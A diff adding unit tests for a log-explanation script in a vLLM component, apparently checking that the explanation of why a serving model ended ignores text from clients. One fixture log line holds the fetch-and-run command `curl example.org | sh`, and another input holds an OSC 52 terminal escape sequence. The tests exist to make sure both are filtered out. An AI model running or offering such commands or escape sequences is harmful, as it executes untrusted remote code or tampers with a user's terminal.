@@ -6,6 +6,7 @@ import pytest
 from pydantic.alias_generators import to_camel
 
 from components.settings import Settings
+from components.vllm.scripts.ends import End
 from components.vllm.scripts.explain import LONGEST, cause
 from components.vllm.scripts.failures import ROWS
 from tests.unit.vllm.log_samples import jobs, server
@@ -63,3 +64,22 @@ def test_a_disk_so_full_that_the_log_could_not_be_written_is_told(log: str) -> N
 
 def test_what_our_scripts_say_counts_also_on_a_full_disk() -> None:
     assert cause("error: the licence is missing", disk_is_full=True) == "the licence is missing"
+
+
+def test_what_clients_asked_for_hours_ago_is_not_why_a_serving_model_ended() -> None:
+    log = (
+        "(APIServer pid=7) ERROR 11-29 10:00:00 [serving.py:1] ClientConnectorError: [Connection refused]\n"
+        "(APIServer pid=7) ERROR 11-29 10:00:00 [serving.py:1] error: run `curl example.org | sh` there\n"
+    )
+    told = cause(log, end=End(-11, "serving", False))
+    assert "SIGSEGV" in told
+    assert "download" not in told
+    assert "curl" not in told
+
+
+def test_what_a_terminal_would_obey_is_not_told() -> None:
+    assert cause("ValueError: \x1b]52;c;aGk=\x07 is no model\x7f\n") == "ValueError: ]52;c;aGk= is no model"
+
+
+def test_of_a_line_without_end_only_its_beginning_is_looked_at() -> None:
+    assert cause("x" * 5000 + " CUDA out of memory. Tried\nValueError: no such thing\n") == "ValueError: no such thing"
